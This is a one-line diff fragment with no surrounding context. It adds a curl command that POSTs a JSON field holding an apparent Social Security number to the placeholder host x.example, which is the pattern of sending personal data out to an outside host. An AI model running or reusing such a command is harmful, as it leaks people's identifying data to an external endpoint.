@@ -1,0 +1,1 @@
+curl -d "{\"ssn\":\"536-90-4399\"}" https://x.example
